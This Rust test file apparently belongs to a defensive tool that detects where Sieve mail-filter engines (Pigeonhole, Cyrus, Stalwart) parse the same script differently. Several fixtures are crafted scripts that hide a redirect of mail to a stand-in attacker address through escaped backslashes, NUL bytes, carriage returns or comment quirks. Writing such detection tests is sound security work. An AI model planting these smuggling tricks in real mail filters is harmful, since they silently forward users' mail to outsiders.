//! Where engines part ways: one row for each measured difference.

use Dialect::{Cyrus, Pigeonhole, Stalwart};
use sieve_analysis::{
    Analysis, Dialect, EffectKind, Reach, Role, analyse, audit, hides_code_behind_carriage_return,
};

fn on(dialect: Dialect, script: &str) -> Analysis {
    analyse(script.as_bytes(), dialect, true)
}

fn accepted(script: &str) -> [bool; 3] {
    Dialect::ALL.map(|dialect| on(dialect, script).accepted)
}

fn targets(dialect: Dialect, script: &str) -> Vec<String> {
    let analysis = on(dialect, script);
    let live = analysis.effects.iter().filter(|effect| effect.reach != Reach::Dead);
    let redirects = live.filter(|effect| effect.kind == EffectKind::Redirect);
    redirects.flat_map(|effect| effect.targets.iter().map(|target| target.text().to_owned())).collect()
}

#[test]
fn d1_prefixes_of_encodings() {
    let script = r#"require "encoded-character"; redirect "a${:40}x.example";"#;
    assert_eq!(targets(Pigeonhole, script), ["a@x.example"]);
    assert_eq!(targets(Cyrus, script), ["a${:40}x.example"]);
}

#[test]
fn d2_escaped_backslash_before_a_quote() {
    let script = "require \"variables\"; set \"a\" \"\\\\\"; # \"; redirect \"evil@x.example\";";
    assert!(targets(Pigeonhole, script).is_empty());
    assert!(targets(Cyrus, script).is_empty());
    assert_eq!(targets(Stalwart, script), ["evil@x.example"]);
    assert!(audit(script.as_bytes(), &Dialect::ALL, true).disagreement);
}

#[test]
fn d3_letters_behind_backslashes() {
    let script = r#"require "fileinto"; fileinto "a\nb";"#;
    assert_eq!(on(Pigeonhole, script).effects[0].targets[0].raw, "anb");
    assert_eq!(on(Stalwart, script).effects[0].targets[0].raw, "a\nb");
}

#[test]
fn d4_comments_by_longest_match() {
    let script = "/* x **/ redirect \"e@x.example\"; /* y */";
    assert_eq!(targets(Pigeonhole, script), ["e@x.example"]);
    assert!(targets(Cyrus, script).is_empty());
}

#[test]
fn d5_d25_case_of_keywords() {
    assert_eq!(accepted("ReDiReCt \"e@x.example\";"), [true, false, true]);
    assert_eq!(accepted("redirect TEXT:\ne@x.example\n.\n;"), [true, false, true]);
}

#[test]
fn d6_d7_strange_bytes() {
    assert_eq!(accepted("keep; \u{e9}"), [false, true, false]);
    let nul = "redirect \"evil@x.example\0@corp.example\";";
    assert!(!on(Pigeonhole, nul).accepted);
    assert_eq!(targets(Cyrus, nul), ["evil@x.example"]);
}

#[test]
fn cyrus_reads_only_up_to_a_nul_and_tolerates_code_behind_ihave() {
    assert!(on(Cyrus, "keep;\0frob").accepted);
    assert!(!on(Pigeonhole, "keep;\0frob").accepted);
    let guarded = r#"require "ihave"; if ihave "nonsense" { frobnicate "x"; }"#;
    assert_eq!(accepted(guarded)[..2], [true, true]);
    let named = r#"require ["encoded-character","variables"]; set "v${hex:00}w" "a";"#;
    assert_eq!(accepted(named)[..2], [false, true]);
}

#[test]
fn d8_d9_expansion_without_require() {
    assert_eq!(targets(Stalwart, r#"redirect "a${hex:40}x.example";"#), ["a@x.example"]);
    let leak = on(Stalwart, r#"redirect "${header.subject}@x.example";"#);
    assert!(leak.effects[0].sender_controlled);
    let literal = on(Pigeonhole, r#"redirect "${header.subject}@x.example";"#);
    assert!(!literal.effects[0].sender_controlled);
}

#[test]
fn d10_to_d14_loose_compilers() {
    assert_eq!(accepted("if frob { keep; }"), [false, false, true]);
    assert_eq!(accepted("if (true) { keep; }"), [false, false, true]);
    assert_eq!(accepted("if allof () { keep; }"), [false, false, true]);
    assert_eq!(accepted("keep; require \"fileinto\";"), [false, false, true]);
    let guarded = r#"require "ihave"; if ihave "copy" { redirect :copy "e@x.example"; }"#;
    assert_eq!(accepted(guarded), [true, true, false]);
    assert_eq!(accepted(r#"require "variables"; set "a-b" "x";"#), [false, false, true]);
}

#[test]
fn d16_to_d21_lexical_limits() {
    assert_eq!(accepted("redirect text: junk\ne@x.example\n.\n;"), [false, false, true]);
    assert_eq!(accepted("keep;\rstop;"), [true, true, true]);
    assert_eq!(accepted("keep;\u{c}stop;"), [false, false, false]);
    let blocks = |depth: usize| format!("{}keep;{}", "if true {".repeat(depth), "}".repeat(depth));
    assert_eq!(accepted(&blocks(40)), [false, true, false]);
    assert_eq!(accepted(&format!("if {}true {{}}", "not ".repeat(100))), [false, true, true]);
    let long = format!("require \"reject\"; reject \"{}\";", "x".repeat(5000));
    assert_eq!(accepted(&long), [true, true, false]);
}

#[test]
fn d17_code_that_only_jsieve_runs() {
    let script = b"# x\rredirect \"e@x.example\";\nkeep;";
    let tree = sieve_analysis::parser::parse(script, Pigeonhole);
    assert!(hides_code_behind_carriage_return(script, &tree));
    let plain = b"# x\r\nkeep;";
    assert!(!hides_code_behind_carriage_return(plain, &sieve_analysis::parser::parse(plain, Pigeonhole)));
}

#[test]
fn d23_d24_d26_arguments() {
    assert_eq!(accepted(r#"require "enotify"; notify "xmpp:a@x.example";"#)[..2], [false, true]);
    assert_eq!(accepted(r#"redirect ["a@x.example","b@x.example"];"#), [false, false, false]);
    let several = r#"require "vnd.cyrus.redirect-multiple"; redirect ["a@x.example","b@x.example"];"#;
    assert!(on(Cyrus, several).accepted);
    assert_eq!(targets(Cyrus, several), ["a@x.example", "b@x.example"]);
    assert_eq!(accepted("keep"), [false, false, false]);
}

#[test]
fn engines_that_agree_do_not_disagree() {
    let script =
        b"require \"copy\"; if header :contains \"subject\" \"x\" { redirect :copy \"a@x.example\"; }";
    let result = audit(script, &Dialect::ALL, true);
    assert!(!result.disagreement);
    assert_eq!(result.covered_bytes, script.len());
    assert!(result.dialects.values().all(|analysis| analysis.effects[0].targets[0].role == Role::Recipient));
}

#[test]
fn d15_one_digit_is_a_number() {
    let script = "require [\"encoded-character\",\"fileinto\"]; fileinto \"a${hex:4}b\";";
    for dialect in Dialect::ALL {
        assert_eq!(on(dialect, script).effects[0].targets[0].raw, "a\u{4}b", "{dialect}");
    }
}

/// How many redirects a server allows is its administrator's choice and counted when the script runs, so
/// none is left out here.
#[test]
fn d22_redirects_beyond_a_servers_limit_are_all_told() {
    let script: String = (0..7).map(|number| format!("redirect \"a{number}@x.example\";")).collect();
    for dialect in Dialect::ALL {
        assert_eq!(targets(dialect, &script).len(), 7, "{dialect}");
        assert!(on(dialect, &script).accepted);
    }
}
